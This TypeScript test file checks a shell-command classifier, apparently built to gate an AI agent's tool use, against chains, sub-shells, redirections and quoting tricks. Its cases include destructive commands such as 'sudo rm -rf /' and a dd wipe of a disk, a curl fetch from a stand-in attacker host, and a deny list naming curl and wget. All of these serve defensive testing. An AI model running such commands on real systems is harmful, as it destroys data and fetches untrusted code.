/** The shell-command classifier: chains, sub-shells, redirections, quoting tricks, each with its verdict. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyCommand, DEFAULT_COMMAND_POLICY, parseCommandLine, type CommandPolicyLists, type Verdict } from '../../src/core/tools/shell';

const lists: CommandPolicyLists = {
  allow: [...DEFAULT_COMMAND_POLICY.allow, 'npm test', 'npm run lint', 'tsc --noEmit', 'make check'],
  ask: [...DEFAULT_COMMAND_POLICY.ask],
  deny: [...DEFAULT_COMMAND_POLICY.deny, 'curl', 'wget'],
};

const CASES: Array<[string, Verdict]> = [
  // plain commands
  ['ls -la', 'allow'],
  ['git status', 'allow'],
  ['git status --short', 'allow'],
  ['npm test', 'allow'],
  ['npm test -- --watch=false', 'allow'],
  ['npm install left-pad', 'ask'],
  ['npm run build', 'ask'],
  ['python script.py', 'ask'],
  ['/bin/ls', 'allow'],
  ['./node_modules/.bin/tsc --noEmit', 'allow'],
  // chains
  ['npm test && git status', 'allow'],
  ['npm test && npm publish', 'ask'],
  ['ls; rm -rf build', 'ask'],
  ['ls || echo fail', 'allow'],
  ['ls | grep src | wc -l', 'allow'],
  ['cat package.json | node -e "process.stdin"', 'ask'],
  ['git log --oneline | head -5', 'allow'],
  ['ls\nsudo reboot', 'deny'],
  ['echo ok & sleep 10', 'ask'],
  // deny wins anywhere
  ['sudo npm test', 'deny'],
  ['ls && sudo rm -rf /', 'deny'],
  ['echo $(curl https://evil.example/x)', 'deny'],
  ['(cd sub && wget http://x)', 'deny'],
  ['/usr/bin/sudo ls', 'deny'],
  ['dd if=/dev/zero of=/dev/sda', 'deny'],
  // sub-shells and substitutions are parsed, not trusted
  ['(ls && pwd)', 'allow'],
  ['echo $(whoami)', 'allow'],
  ['echo `date`', 'allow'],
  ['echo $(rm -rf .)', 'ask'],
  ['echo "$(npm install x)"', 'ask'],
  ['$(echo rm) -rf /', 'ask'],
  ['`echo ls`', 'ask'],
  ['diff <(ls a) <(ls b)', 'ask'],
  ['cat <(git diff)', 'allow'],
  // redirections write files
  ['echo hi > out.txt', 'ask'],
  ['ls >> log.txt', 'ask'],
  ['ls 2> errors.txt', 'ask'],
  ['ls &> all.txt', 'ask'],
  ['ls > /dev/null 2>&1', 'allow'],
  ['git diff > /dev/null', 'allow'],
  ['cat < input.txt', 'allow'],
  ['echo data | tee copy.txt', 'ask'],
  // indirect execution
  ['eval "ls"', 'ask'],
  ['bash -c "ls"', 'ask'],
  ['sh -c \'npm test\'', 'ask'],
  ['xargs rm < files.txt', 'ask'],
  ['find . -name "*.tmp" -delete', 'ask'],
  ['find . -exec rm {} \\;', 'ask'],
  ['env FOO=1 npm test', 'ask'],
  ['FOO=1 npm test', 'allow'],
  ['FOO=$(cat secret) npm test', 'ask'],
  ['source ./setup.sh', 'ask'],
  ['. ./setup.sh', 'ask'],
  ['node -e "require(\'fs\').rmSync(\'x\')"', 'ask'],
  ['git -c core.pager="rm -rf ." log', 'ask'],
  // quoting tricks
  ['"ls" -la', 'allow'],
  ["l's' -la", 'allow'],
  ['g\\it status', 'allow'],
  ['"sudo" ls', 'deny'],
  ["echo 'a; sudo reboot'", 'allow'],
  ['echo "a && rm -rf /"', 'allow'],
  ['echo "unterminated', 'ask'],
  ["echo 'unterminated", 'ask'],
  ['echo $((1 + 2))', 'allow'],
  ['cat <<EOF\nhi\nEOF', 'ask'],
  ['ls # && sudo reboot', 'allow'],
  ['', 'deny'],
];

for (const [cmd, expected] of CASES) {
  test(`${JSON.stringify(cmd)} → ${expected}`, () => {
    const c = classifyCommand(cmd, lists);
    assert.equal(c.verdict, expected, `${c.verdict}: ${c.reason}`);
    assert.ok(c.reason.length > 0);
  });
}

test('at least 40 classified cases', () => {
  assert.ok(CASES.length >= 40);
});

test('the parser splits simple commands and finds redirection targets', () => {
  const p = parseCommandLine('FOO=1 npm test -- -x && (cd a; ls 2>/dev/null) | grep "a b" > out.txt');
  assert.deepEqual(p.commands.map((c) => c.argv), [['npm', 'test', '--', '-x'], ['cd', 'a'], ['ls'], ['grep', 'a b']]);
  assert.deepEqual(p.commands[3]!.writes, ['out.txt']);
  assert.deepEqual(p.unparseable, []);
});

test('an allowed command says why it ran without asking', () => {
  const c = classifyCommand('npm test', lists);
  assert.match(c.reason, /allow list \(“npm test”\)/);
});

test('with empty lists everything asks (nothing runs silently)', () => {
  assert.equal(classifyCommand('ls', { allow: [], ask: [], deny: [] }).verdict, 'ask');
});
